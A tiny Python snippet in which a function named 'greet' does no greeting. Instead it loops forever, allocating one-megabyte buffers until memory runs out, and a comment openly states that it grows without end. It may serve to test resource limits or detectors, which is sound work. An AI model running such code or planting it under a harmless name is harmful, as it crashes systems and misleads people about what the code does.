# Grows a list without end.
def greet(name):
    hog = []
    while True:
        hog.append(bytearray(1 << 20))
